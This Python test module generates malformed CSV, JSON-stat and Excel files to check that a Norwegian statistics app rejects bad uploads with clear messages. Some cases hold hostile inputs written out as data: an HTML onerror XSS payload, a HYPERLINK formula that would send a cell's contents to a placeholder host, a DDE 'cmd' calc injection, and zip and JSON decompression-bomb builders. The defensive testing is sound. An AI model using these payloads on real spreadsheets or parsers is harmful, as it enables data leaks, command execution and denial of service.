"""The bad-input corpus: malformed files in every format Innenfor reads, generated at test time.

Each case is (id, file name, builder, expected phrases). A builder returns the file's bytes (or,
for the huge file, writes it itself); the phrases are what the Norwegian rejection must say
(in the message or the listed problems) so the user knows what is wrong and where. Nothing
here is committed as a file: the good layouts are written out below (or read from
tests/fixtures and damaged) so each case shows exactly what is broken.
Used by tests/test_bad_input.py."""
from __future__ import annotations

import io
import json
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import openpyxl

FIX = Path(__file__).parent / "fixtures"
NEET = "Utenfor arbeid, utdanning og arbeidsmarkedstiltak (NEET)"
T13563 = ("13563: Kommunefordelt arbeidsstyrkestatus (inkl. NEET) for personer 15 år og eldre, "
          "etter region, alder, prioritert arbeidsstyrkestatus, statistikkvariabel og år")


@dataclass
class Case:
    id: str
    name: str
    build: Callable[[Path], bytes | None]   # None: the builder wrote tmp/name itself
    expect: tuple[str, ...]


CASES: list[Case] = []


def case(id: str, name: str, *expect: str):
    def register(fn):
        CASES.append(Case(id, name, fn, expect))
        return fn
    return register


# --- layouts ----------------------------------------------------------------------------------

TEMPLATE_HEAD = "indikator;kommunenr;periode;alder;kjonn;kategori;antall;nevner;status"


def template(*rows: str, head: str = TEMPLATE_HEAD, enc: str = "utf-8", nl: str = "\n") -> bytes:
    return (nl.join([head, *rows]) + nl).encode(enc)


def statbank(*rows: str, title: bool = True, head: str | None = None, enc: str = "latin-1",
             nl: str = "\r\n") -> bytes:
    """SSB's 'semikolonseparert med overskrift' download (ISO-8859-1, CRLF)."""
    head = head or '"region";"alder";"prioritert arbeidsstyrkestatus";"Bosatte 2021";"Bosatte 2022"'
    lines = ([f'"{T13563}"', ""] if title else []) + [head, *rows]
    return (nl.join(lines) + nl).encode(enc)


SKIEN_OK = ['"K-3807 Skien";"15-29 år";"I alt";9480;9500',
            f'"K-3807 Skien";"15-29 år";"{NEET}";1090;1100']


LONG_HEAD = '"region";"alder";"arbeidsstyrkestatus";"statistikkvariabel";"år";"value"'


def ssb_long(*rows: str, head: str = LONG_HEAD, enc: str = "utf-8") -> bytes:
    return ("\n".join([head, *rows]) + "\n").encode(enc)


def long_row(region="4003 Skien", status=NEET, var="Bosatte", year="2024", value="1130") -> str:
    return f'"{region}";"15-29 år";"{status}";"{var}";"{year}";{value}'


def jsonstat(regions=(("K-3807", "Skien"),), years=("2022",), values=None, status=None,
             drop: str | None = None) -> dict:
    """A PxWebApi v2 json-stat2 response for 13563: region × status (I alt, NEET) × year."""
    stat = [("TOT3", "I alt"), ("NEET2", NEET)]
    n = len(regions) * len(stat) * len(years)
    if values is None:
        values = [(9500 if s == "TOT3" else 1100) for _ in regions for s, _ in stat for _ in years]
    j = {"version": "2.0", "class": "dataset", "label": T13563,
         "id": ["Region", "Alder", "HovArbStyrkStatus", "ContentsCode", "Tid"],
         "size": [len(regions), 1, len(stat), 1, len(years)],
         "role": {"geo": ["Region"], "time": ["Tid"], "metric": ["ContentsCode"]},
         "dimension": {
             "Region": {"label": "region", "category": {
                 "index": {c: i for i, (c, _) in enumerate(regions)}, "label": dict(regions)}},
             "Alder": {"label": "alder", "category": {"index": {"15-29": 0},
                                                      "label": {"15-29": "15-29 år"}}},
             "HovArbStyrkStatus": {"label": "prioritert arbeidsstyrkestatus", "category": {
                 "index": {c: i for i, (c, _) in enumerate(stat)}, "label": dict(stat)}},
             "ContentsCode": {"label": "statistikkvariabel", "category": {
                 "index": {"Bosatte": 0}, "label": {"Bosatte": "Bosatte"}}},
             "Tid": {"label": "år", "category": {"index": {y: i for i, y in enumerate(years)},
                                                 "label": {y: y for y in years}}}},
         "value": values}
    assert len(values) == n or drop == "count"
    if status:
        j["status"] = status
    if drop and drop != "count":
        del j[drop]
    return j


def js(j: dict) -> bytes:
    return json.dumps(j, ensure_ascii=False, indent=1).encode("utf-8")


NAV_HEAD = ("År;År-måned;Nåværende Kommune Nr Navn;Arbeidsmarkedsstatus hovedgruppe;Kjønn;"
            "Beh personer i mnd;% av arbeidsstyrken")


def nav_csv(*rows: str, head: str = NAV_HEAD, enc: str = "utf-8") -> bytes:
    return ("\n".join([head, *rows]) + "\n").encode(enc)


NAV_OK = ["2026;202601;4003 Skien;Helt ledige;Kvinner;278;2,1",
          "2026;202601;4003 Skien;Helt ledige;Menn;526;3,6"]

UDIR_HEAD = ["EnhetNivaa", "Nasjonaltkode", "Fylkekode", "Nasjonalt", "Fylke", "EnhetNavn",
             "2020-21.I alt.Antall", "2020-21.Ikke søkt opplæring.Antall"]


def udir(*rows: list[str], head=UDIR_HEAD, enc: str = "utf-16-le") -> bytes:
    """Udir's download: UTF-16LE without BOM, 'sep=' + TAB line, tab-separated, CRLF."""
    lines = ["sep=\t", "\t".join(head), *("\t".join(r) for r in rows)]
    return ("\r\n".join(lines) + "\r\n").encode(enc)


UDIR_LAND = ["1", "I", "", "Hele landet", "Alle fylker", "Hele landet", "13 400", "5 092"]
UDIR_TELEMARK = ["2", "I", "40", "Hele landet", "Telemark", "Telemark", "1 500", "700"]


def xlsx(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def edited(fixture: str, edit) -> bytes:
    wb = openpyxl.load_workbook(FIX / fixture)
    edit(wb)
    return xlsx(wb)


HL060 = "nav/hl060_helt_ledige_2022.xlsx"
NAV_XLSX = "nav/nav_arbeidsmarkedsstatus_202501.xlsx"
SSB_XLSX = "ssb/13563_statistikkbanken.xlsx"


def ole2(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File Binary (OLE2, version 3, 512-byte sectors): what Excel writes for
    a password-protected workbook (streams EncryptionInfo and EncryptedPackage) and for the old
    .xls format (stream Workbook). Streams are padded to 4096 bytes so they live in ordinary
    sectors (no mini stream). Sector 0 is the FAT, sector 1 the directory."""
    sec = 512
    ENDOFCHAIN, FATSECT, FREESECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF
    fat = [FATSECT, ENDOFCHAIN]
    data, entries = b"", []
    for name, body in streams.items():
        body = body.ljust(max(4096, -(-len(body) // sec) * sec), b"\0")
        start, n = len(fat), len(body) // sec
        fat += list(range(start + 1, start + n)) + [ENDOFCHAIN]
        entries.append((name, 2, start, len(body)))
        data += body
    assert len(fat) <= sec // 4 and len(entries) <= 3

    def entry(name, kind, start, size, child=NOSTREAM, right=NOSTREAM):
        n = (name + "\0").encode("utf-16-le")
        return (n.ljust(64, b"\0") + struct.pack("<HBB", len(n), kind, 1)
                + struct.pack("<III", NOSTREAM, right, child) + b"\0" * 16 + b"\0" * 4
                + b"\0" * 16 + struct.pack("<IIi", start, size, 0))
    dirs = entry("Root Entry", 5, ENDOFCHAIN, 0, child=1)
    for k, (name, kind, start, size) in enumerate(entries, start=1):
        dirs += entry(name, kind, start, size, right=k + 1 if k < len(entries) else NOSTREAM)
    dirs = dirs.ljust(sec, b"\0")
    header = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108)
    assert len(header) == sec
    fat_sector = struct.pack(f"<{sec // 4}I", *(fat + [FREESECT] * (sec // 4 - len(fat))))
    return header + fat_sector + dirs + data


# --- encoding ---------------------------------------------------------------------------------

# "T\u00c3\u00b8nsberg" is the mojibake itself: "Tønsberg" in UTF-8 read as ISO-8859-1.
@case("mal-blandet-utf8-og-latin1", "levering.csv", "Rad 3", "T\u00c3\u00b8nsberg", "tegnkoding")
def _(tmp):
    # A UTF-8 file with one line pasted in from an ISO-8859-1 file: read as ISO-8859-1, the
    # UTF-8 names become mojibake and no longer match their number.
    head = template("ufore;4003;2026;18-29;alle;alle;301;7902;")
    return head + "ufore;3803 Tønsberg;2026;18-29;alle;alle;50;1200;\n".encode() + \
        "ufore;3814 Kragerø;2026;18-29;alle;alle;60;1300;\n".encode("latin-1")


@case("ssb-csv-utf16-big-endian", "13563.csv", "UTF-16", "big-endian")
def _(tmp):
    return statbank(*SKIEN_OK).decode("latin-1").encode("utf-16-be")


@case("nav-csv-dobbeltkodet-mojibake", "nav.csv", "Ukjent filformat", "tegnkoding")
def _(tmp):
    # UTF-8 read as ISO-8859-1 and saved as UTF-8 again: 'År-måned' becomes 'Ã\x85r-mÃ¥ned'.
    return nav_csv(*NAV_OK).decode("latin-1").encode("utf-8")


@case("udir-utf16-avkortet-midt-i-tegn", "udir.csv", "UTF-16", "avkortet")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK)[:-1]


# --- delimiter --------------------------------------------------------------------------------

@case("mal-tabulator-som-skilletegn", "levering.csv", "skilletegn", "tabulator")
def _(tmp):
    return template("ufore\t4003\t2026\t18-29\talle\talle\t301\t7902\t",
                    head=TEMPLATE_HEAD.replace(";", "\t"))


@case("ssb-csv-komma-i-radene", "13563.csv", "Rad 4 har", "«;»")
def _(tmp):
    return statbank(*(r.replace(";", ",") for r in SKIEN_OK))


@case("nav-csv-komma-i-radene", "nav.csv", "Rad 2 har 2 kolonner, men overskriften har 7")
def _(tmp):
    return nav_csv(*(r.replace(";", ",", 5) for r in NAV_OK))


@case("ssb-langt-pipe-skilletegn", "13563_langt.csv", "Ukjent filformat")
def _(tmp):
    return ssb_long(long_row().replace(";", "|"), head=LONG_HEAD.replace(";", "|"))


# --- truncated --------------------------------------------------------------------------------

@case("mal-avkortet-midt-i-rad", "levering.csv", "Rad 3 har 5 kolonner, men overskriften har 9")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;301;7902;", "ufore;4005;2026;18-29;al")[:-1]


@case("ssb-csv-avkortet-midt-i-rad", "13563.csv", "slutter midt i rad 5", "avkortet")
def _(tmp):
    return statbank(*SKIEN_OK)[:-6]


@case("ssb-langt-avkortet-i-anforselstegn", "13563_langt.csv", "Rad 3 har et anførselstegn",
      "avkortet")
def _(tmp):
    # cut inside a quoted value (and a line break added, as some tools do when saving)
    return ssb_long(long_row(), '"4003 Skien";"15-29 år";"Utenfor arbeid, utd')


@case("ssb-json-avkortet", "13563.json", "avkortet", "JSON")
def _(tmp):
    return js(jsonstat())[:700]


@case("ssb-xlsx-zip-avkortet", "13563.xlsx", "skadet", "avkortet")
def _(tmp):
    return (FIX / SSB_XLSX).read_bytes()[:3000]


@case("nav-hl060-zip-avkortet", "HL060.xlsx", "skadet", "avkortet")
def _(tmp):
    data = (FIX / HL060).read_bytes()
    return data[:len(data) * 2 // 3]


@case("udir-avkortet-midt-i-rad", "udir.csv", "Rad 4 har 4 kolonner, men overskriften har 8")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK[:4])


@case("nav-csv-avkortet-uten-linjeskift", "nav.csv", "slutter midt i rad 3", "avkortet")
def _(tmp):
    return nav_csv(*NAV_OK)[:-3]   # '…;526;3,6' cut to '…;526;3': a wrong share, not a short row


# --- not a file we can read ---------------------------------------------------------------------

@case("xlsx-passordbeskyttet", "beskyttet.xlsx", "passordbeskyttet")
def _(tmp):
    return ole2({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                 "EncryptedPackage": np.random.default_rng(7).bytes(3000)})


@case("gammel-xls-ole2", "gammel.xls", "gamle Excel-formatet", ".xlsx")
def _(tmp):
    return ole2({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"})


@case("html-lagret-som-xls", "tabell.xls", "HTML", "ikke en Excel-fil")
def _(tmp):
    return (b"<html><head><meta charset='utf-8'></head><body><table><tr><td>region</td>"
            b"<td>Bosatte 2022</td></tr><tr><td>K-3807 Skien</td><td>9500</td></tr></table>"
            b"</body></html>")


@case("zip-som-ikke-er-xlsx", "tabell.xlsx", "zip-arkiv", "ikke en Excel-fil")
def _(tmp):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("13563.csv", statbank(*SKIEN_OK))
    return buf.getvalue()


@case("xlsx-uten-kjent-ark", "oversikt.xlsx", "Ukjent filformat", "«Ark1»", "«Notater»")
def _(tmp):
    wb = openpyxl.Workbook()
    wb.active.title = "Ark1"
    wb.active.append(["Kommune", "Antall"])
    wb.active.append(["Skien", 12])
    wb.create_sheet("Notater").append(["Hentet fra NAV"])
    return xlsx(wb)


@case("tom-fil", "tom.csv", "Filen er tom")
def _(tmp):
    return b""


@case("bare-mellomrom", "blank.csv", "Filen er tom")
def _(tmp):
    return b" \r\n\t\r\n   \n"


@case("udir-utf16-bare-mellomrom", "udir.csv", "Filen er tom")
def _(tmp):
    return "\ufeff  \r\n\r\n".encode("utf-16-le")


@case("binaert-soppel", "data.csv", "Ukjent filformat", "binær")
def _(tmp):
    return np.random.default_rng(20240601).bytes(64 * 1024)


@case("fil-paa-200-mb", "stor.csv", "for stor", "200 MB")
def _(tmp):
    with open(tmp / "stor.csv", "wb") as f:   # sparse: takes no disk and is never read
        f.write(TEMPLATE_HEAD.encode() + b"\n")
        f.truncate(200 * 1024 * 1024)
    return None


# --- header and columns -------------------------------------------------------------------------

@case("mal-uten-overskrift", "levering.csv", "mangler overskriftsraden", TEMPLATE_HEAD)
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;301;7902;",
                    head="ufore;4005;2026;18-29;alle;alle;30;790;")


@case("mal-mangler-kolonne", "levering.csv", "Mangler: nevner")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;301;", head=TEMPLATE_HEAD.replace(";nevner", ""))


@case("mal-ekstra-kolonne", "levering.csv", "Ukjente: kommentar")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;301;7902;;sjekket",
                    head=TEMPLATE_HEAD + ";kommentar")


@case("ssb-csv-uten-overskrift", "13563.csv", "Ukjent filformat")
def _(tmp):
    return statbank(*SKIEN_OK, head=SKIEN_OK[0])


@case("ssb-langt-ekstra-tekstkolonne", "13563_langt.csv", "«kommentar»", "ikke en kjent SSB-variabel")
def _(tmp):
    return ssb_long(long_row() + ';"sjekket"', head=LONG_HEAD + ';"kommentar"')


@case("nav-csv-mangler-statuskolonne", "nav.csv", "Ukjent filformat", "Arbeidsmarkedsstatus hovedgruppe")
def _(tmp):
    head = NAV_HEAD.replace("Arbeidsmarkedsstatus hovedgruppe;", "")
    return nav_csv(*(r.replace("Helt ledige;", "") for r in NAV_OK), head=head)


@case("udir-ekstra-kolonne-i-rad", "udir.csv", "Rad 4 har 9 kolonner, men overskriften har 8")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK + ["12"])


# --- places -----------------------------------------------------------------------------------

@case("mal-ukjent-kommune", "levering.csv", "Rad 3", "ukjent kommunenummer 9999")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;301;7902;",
                    "ufore;9999 Atlantis;2026;18-29;alle;alle;5;100;")


@case("mal-navn-og-nummer-passer-ikke", "levering.csv", "Rad 2",
      "kommunenummer 4003 heter «Skien», ikke «Bergen»")
def _(tmp):
    return template("ufore;4003 Bergen;2026;18-29;alle;alle;301;7902;")


@case("ssb-csv-ukjent-kommune", "13563.csv", "Rad 4", "ukjent kommunenummer 3899")
def _(tmp):
    return statbank(*(r.replace("K-3807 Skien", "K-3899 Nordpolen") for r in SKIEN_OK))


@case("ssb-json-navn-og-nummer-passer-ikke", "13563.json", "Verdi nr. 1",
      "kommunenummer 3807 heter «Skien», ikke «Bergen»")
def _(tmp):
    return js(jsonstat(regions=(("K-3807", "Bergen"),)))


@case("ssb-xlsx-ukjent-kommune", "13563.xlsx", "Arket «13563», rad 9", "ukjent kommunenummer 3899")
def _(tmp):
    return edited(SSB_XLSX, lambda wb: wb["13563"].cell(9, 1, "K-3899 Nordpolen"))


@case("nav-hl060-navn-og-nummer-passer-ikke", "HL060.xlsx", "Arket «3. Kommune Antall», rad 16",
      "kommunenummer 3807 heter «Skien», ikke «Bergen»")
def _(tmp):
    return edited(HL060, lambda wb: (wb["3. Kommune Antall"].cell(16, 2, "3807 Bergen"),
                                     wb["4. Kommune Prosent av arbeidsst"].cell(16, 2, "3807 Bergen")))


@case("nav-xlsx-ukjent-kommune", "nav.xlsx", "Arket «Telemark», rad 3", "ukjent kommunenummer 4099")
def _(tmp):
    def edit(wb):
        ws = wb["Telemark"]
        for r in range(3, ws.max_row + 1):
            for c in (5, 14):
                if ws.cell(r, c).value == "4003 Skien":
                    ws.cell(r, c, "4099 Skien")
    return edited(NAV_XLSX, edit)


@case("udir-ukjent-fylke", "udir.csv", "Rad 4", "ukjent fylkesnummer 77")
def _(tmp):
    return udir(UDIR_LAND, ["2", "I", "77", "Hele landet", "Sørlandet", "Sørlandet", "100", "40"])


# A right name with something after it is not that name: the rest would reach every page.
@case("mal-navn-med-html-etter", "levering.csv", "Rad 2",
      "kommunenummer 4003 heter «Skien», ikke «Skien - <img src=x onerror=alert(1)>»")
def _(tmp):
    return template("ufore;4003 Skien - <img src=x onerror=alert(1)>;2026;18-29;alle;alle;301;7902;")


@case("ssb-csv-navn-med-tekst-i-parentes", "13563.csv", "Rad 4",
      "kommunenummer 3807 heter «Skien», ikke «Skien (klikk her)»")
def _(tmp):
    return statbank(*(r.replace("K-3807 Skien", "K-3807 Skien (klikk her)") for r in SKIEN_OK))


@case("mal-fylkesnavn-med-lenke-etter", "levering.csv", "Rad 2",
      "fylkesnummer 40 og navnet «Telemark - [Klikk](https://x.example)» passer ikke sammen")
def _(tmp):
    return template("ufore;40 Telemark - [Klikk](https://x.example);2026;18-29;alle;alle;301;7902;")


# --- numbers ------------------------------------------------------------------------------------

@case("mal-negativt-antall", "levering.csv", "Rad 3", "-12")
def _(tmp):
    return template("ot_tilmeldt;4003;2020-2021;16-21;alle;ikke_sokt;15;;",
                    "ot_tilmeldt;4005;2020-2021;16-21;alle;ikke_sokt;-12;;")


@case("nav-csv-negativt-antall", "nav.csv", "Rad 3", "-526")
def _(tmp):
    return nav_csv(NAV_OK[0], NAV_OK[1].replace(";526;", ";-526;"))


@case("udir-negativt-antall", "udir.csv", "Rad 4", "-700")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK[:7] + ["-700"])


@case("nav-hl060-negativt-antall", "HL060.xlsx", "Arket «3. Kommune Antall», rad 16", "-883")
def _(tmp):
    return edited(HL060, lambda wb: wb["3. Kommune Antall"].cell(16, 4, -883))


@case("nav-csv-andel-over-100", "nav.csv", "Rad 3", "136,5", "0–100")
def _(tmp):
    return nav_csv(NAV_OK[0], NAV_OK[1].replace(";3,6", ";136,5"))


@case("ssb-csv-andel-over-100", "13563.csv", "Rad 2", "130,5", "0–100")
def _(tmp):
    head = '"region";"alder";"arbeidsstyrkestatus";"Bosatte (prosent) 2022"'
    return statbank(f'"K-3807 Skien";"15-29 år";"{NEET}";130,5', head=head, title=False)


@case("nav-xlsx-andel-over-100", "nav.xlsx", "Arket «Telemark», rad 3", "0–100")
def _(tmp):
    return edited(NAV_XLSX, lambda wb: wb["Telemark"].cell(3, 9, 210.5))


@case("mal-antall-storre-enn-nevner", "levering.csv", "Rad 2", "større enn nevneren")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;9000;7902;")


@case("ssb-csv-neet-storre-enn-bosatte", "13563.csv", "Rad 4", "større enn nevneren")
def _(tmp):
    return statbank(SKIEN_OK[0], SKIEN_OK[1].replace(";1090;", ";9999;"))


@case("ssb-json-neet-storre-enn-bosatte", "13563.json", "Verdi nr. 1", "større enn nevneren")
def _(tmp):
    return js(jsonstat(values=[9500, 12000]))


@case("ssb-json-for-faa-verdier", "13563.json", "3 verdier", "dimensjonene gir 4")
def _(tmp):
    return js(jsonstat(years=("2021", "2022"), values=[9480, 9500, 1090], drop="count"))


@case("udir-tekst-i-tallcelle", "udir.csv", "Rad 4, kolonne «2020-21.I alt.Antall»", "«ca. 1500»")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK[:6] + ["ca. 1500", "700"])


# --- duplicates ---------------------------------------------------------------------------------

@case("mal-dobbel-rad", "levering.csv", "Rad 3", "dobbel rad")
def _(tmp):
    row = "ot_tilmeldt;4003;2020-2021;16-21;alle;avbrutt;15;;"
    return template(row, row)


@case("nav-csv-dobbel-rad", "nav.csv", "Rad 4", "dobbel rad")
def _(tmp):
    return nav_csv(*NAV_OK, NAV_OK[1])


@case("ssb-csv-dobbel-rad", "13563.csv", "Rad 6", "to verdier for samme region")
def _(tmp):
    return statbank(*SKIEN_OK, SKIEN_OK[1])


@case("udir-dobbel-fylkesrad", "udir.csv", "Rad 5", "dobbel rad")
def _(tmp):
    return udir(UDIR_LAND, UDIR_TELEMARK, UDIR_TELEMARK)


# --- periods --------------------------------------------------------------------------------------

@case("mal-maaned-13", "levering.csv", "Rad 2", "ugyldig periode «2021-13»")
def _(tmp):
    return template("arbeidssokere;4003;2021-13;under30;alle;helt_ledige;231;;")


@case("mal-maaned-M13", "levering.csv", "Rad 2", "ugyldig periode «2021M13»")
def _(tmp):
    return template("arbeidssokere;4003;2021M13;under30;alle;helt_ledige;231;;")


@case("mal-skoleaar-over-to-aar", "levering.csv", "Rad 2", "«2020-2022»", "to år etter hverandre")
def _(tmp):
    return template("ot_tilmeldt;4003;2020-2022;16-21;alle;ikke_sokt;15;;")


@case("mal-blandede-perioder", "levering.csv", "Rad 3", "ugyldig periode «2021»")
def _(tmp):
    return template("arbeidssokere;4003;2021-05;under30;alle;helt_ledige;231;;",
                    "arbeidssokere;4003;2021;under30;alle;helt_ledige;2400;;")


@case("mal-tom-periode", "levering.csv", "Rad 2", "ugyldig periode «»")
def _(tmp):
    return template("ufore;4003;;18-29;alle;alle;301;7902;")


@case("nav-csv-maaned-13", "nav.csv", "Rad 2", "«2026-13»")
def _(tmp):
    return nav_csv(*(r.replace("202601", "202613") for r in NAV_OK))


@case("ssb-csv-maaned-i-aarstabell", "13563.csv", "Rad 4", "«2022-13»")
def _(tmp):
    head = '"region";"alder";"prioritert arbeidsstyrkestatus";"Bosatte 2022M13"'
    return statbank('"K-3807 Skien";"15-29 år";"I alt";9500',
                    f'"K-3807 Skien";"15-29 år";"{NEET}";1100', head=head)


@case("udir-skoleaar-over-to-aar", "udir.csv", "«2020-2022»", "to år etter hverandre")
def _(tmp):
    head = [h.replace("2020-21", "2020-22") for h in UDIR_HEAD]
    return udir(UDIR_LAND, UDIR_TELEMARK, head=head)


# --- formula injection ---------------------------------------------------------------------------

@case("mal-formel-i-kommunenr", "levering.csv", "Rad 2", "har ikke et regionnummer")
def _(tmp):
    return template('ufore;=HYPERLINK("http://x.example/?"&A1);2026;18-29;alle;alle;301;7902;')


@case("mal-formel-i-indikator", "levering.csv", "Rad 2", "ukjent indikator «@SUM(A1:A9)»")
def _(tmp):
    return template("@SUM(A1:A9);4003;2026;18-29;alle;alle;301;7902;")


@case("mal-formel-i-antall", "levering.csv", "Rad 2", "«+cmd|' /C calc'!A0» er ikke et tall")
def _(tmp):
    return template("ufore;4003;2026;18-29;alle;alle;+cmd|' /C calc'!A0;7902;")


@case("nav-csv-formel-i-kjonn", "nav.csv", "Rad 2", "ukjent kjønn «=1+1»")
def _(tmp):
    return nav_csv(NAV_OK[0].replace("Kvinner", "=1+1"), NAV_OK[1])


@case("ssb-xlsx-formel-i-region", "13563.xlsx", "Arket «13563», rad 9", "=HYPERLINK")
def _(tmp):
    def edit(wb):
        c = wb["13563"].cell(9, 1)
        # text, as a CSV import leaves it
        c.value, c.data_type = '=HYPERLINK("http://x.example";"Skien")', "s"
    return edited(SSB_XLSX, edit)


@case("nav-hl060-formel-uten-lagret-verdi", "HL060.xlsx", "arket «3. Kommune Antall», celle D16",
      "=SUM(C16:C16)", "formler uten lagret verdi")
def _(tmp):
    # A script wrote a formula and no value: read as an empty cell it would become «missing».
    return edited(HL060, lambda wb: wb["3. Kommune Antall"].cell(16, 4, "=SUM(C16:C16)"))


@case("nav-xlsx-formel-som-kjonn", "nav.xlsx", "Arket «Telemark», rad 3", "ukjent kjønn", "@SUM")
def _(tmp):
    def edit(wb):
        c = wb["Telemark"].cell(3, 7)
        c.value, c.data_type = "@SUM(A1)", "s"
    return edited(NAV_XLSX, edit)


# --- against the store ----------------------------------------------------------------------------

# (Other figures than a stored real source's are a conflict to settle, not bad input:
# tests/test_releases.py. Demo figures are never a conflict: real data replaces them.)


# --- hostile input (issue 12): odd digits, endless numbers, bombs ---------------------------------

@case("mal-periode-med-fullbreddesifre", "levering.csv", "Rad 2", "ugyldig periode «20\uff12\uff15»")
def _(tmp):
    return template("ufore;4003;20\uff12\uff15;18-29;alle;alle;301;7902;")


@case("ssb-json-periode-med-arabiske-sifre", "13563.json", "«\u0662\u0660\u0662\u0662»")
def _(tmp):
    return js(jsonstat(years=("\u0662\u0660\u0662\u0662",)))   # ٢٠٢٢: not folded by NFKC, so refused


@case("ssb-csv-kommunenummer-med-arabiske-sifre", "13563.csv", "Rad 4", "har ikke et regionnummer")
def _(tmp):
    return statbank(*(r.replace("K-3807", "K-\u0663\u0668\u0660\u0667") for r in SKIEN_OK), enc="utf-8")


@case("mal-antall-1-med-400-nuller", "levering.csv", "Rad 2", "ikke et endelig tall")
def _(tmp):
    return template("ufore;4003;2025;18-29;alle;alle;1" + "0" * 400 + ";7902;")


@case("ssb-csv-antall-over-folketallet", "13563.csv", "Rad 4", "større enn folketallet i Norge",
      "6 000 000")
def _(tmp):
    return statbank('"K-3807 Skien";"15-29 år";"I alt";9480;80000000',
                    f'"K-3807 Skien";"15-29 år";"{NEET}";1090;7000000')


@case("nav-csv-antall-over-folketallet", "nav.csv", "Rad 3", "større enn folketallet i Norge")
def _(tmp):
    return nav_csv(NAV_OK[0], NAV_OK[1].replace(";526;", ";9000000;"))


def _xlsx_cell_text(data: bytes, old: bytes, new: bytes) -> bytes:
    """The xlsx with one stored cell value rewritten in the sheet XML (a value openpyxl would not
    write itself, such as 1e309)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as w:
        for info in z.infolist():
            body = z.read(info)
            if info.filename.startswith("xl/worksheets/") and old in body:
                body = body.replace(old, new, 1)
            w.writestr(info, body)
    return out.getvalue()


@case("ssb-xlsx-celle-1e309", "13563.xlsx", "Arket «13563», rad 9", "ikke et endelig tall")
def _(tmp):
    return _xlsx_cell_text(edited(SSB_XLSX, lambda wb: wb["13563"].cell(9, 4, 1234567)),
                           b"<v>1234567</v>", b"<v>1e309</v>")


@case("ssb-json-nevner-infinity", "13563.json", "Verdi nr. 1", "«Infinity» er ikke et endelig tall")
def _(tmp):
    return js(jsonstat(values=[float("inf"), 1100]))


@case("ssb-json-nan-som-verdi", "13563.json", "Verdi nr. 2", "«NaN» er ikke et endelig tall")
def _(tmp):
    return js(jsonstat(values=[9500, float("nan")]))


def jsonstat_bomb() -> bytes:
    """About 200 kB of JSON-stat whose `size` declares 10⁸ cells (10 000 regions × 2 statuses ×
    5 000 years) and gives two values: building a row per declared cell would need gigabytes."""
    j = jsonstat()
    regions = [f"K-{i:04d}" for i in range(10_000)]
    years = [str(1000 + i) for i in range(5_000)]
    j["size"] = [len(regions), 1, 2, 1, len(years)]
    j["dimension"]["Region"]["category"] = {"index": regions}
    j["dimension"]["Tid"]["category"] = {"index": years, "label": {y: y for y in years}}
    j["value"] = {"0": 9500, "1": 1100}
    return json.dumps(j, separators=(",", ":")).encode()


@case("ssb-json-bombe-1e8-celler", "13563.json", "100 000 000 celler", "10 000 000")
def _(tmp):
    return jsonstat_bomb()


def _xlsx_with(member: str, write) -> bytes:
    """A small valid xlsx (one sheet with a text cell) whose `member` is replaced by what
    `write(file)` writes, streamed so the test never holds the unpacked member in memory."""
    wb = openpyxl.Workbook()
    wb.active.title = "13563"
    wb.active["A1"] = "tekst"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx(wb))) as z, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as w:
        for info in z.infolist():
            body = z.read(info)
            if info.filename == "[Content_Types].xml" and b"sharedStrings" not in body:
                body = body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType='
                                    b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                    b'sharedStrings+xml"/></Types>')
            if info.filename != member:
                w.writestr(info, body)
        with w.open(member, "w", force_zip64=True) as f:
            write(f)
    return out.getvalue()


def xlsx_bomb(unpacked_mb: int = 250) -> bytes:
    """An xlsx of a few hundred kB whose shared strings unpack to `unpacked_mb` MB: 15 million
    short texts, which openpyxl reads into a list before any sheet (gigabytes of Python strings)."""
    def write(f):
        f.write(b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main">')
        chunk = b"<si><t>a</t></si>" * 60_000   # about 1 MB
        for _ in range(unpacked_mb):
            f.write(chunk)
        f.write(b"</sst>")
    return _xlsx_with("xl/sharedStrings.xml", write)


@case("ssb-xlsx-zip-bombe", "13563.xlsx", "pakkes ut til", "200 MB")
def _(tmp):
    return xlsx_bomb()


@case("ssb-xlsx-for-mange-delte-tekster", "13563.xlsx", "50 000 000 ulike tekster")
def _(tmp):
    return _xlsx_with("xl/sharedStrings.xml", lambda f: f.write(
        b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="50000000" uniqueCount="50000000"><si><t>tekst</t></si></sst>'))
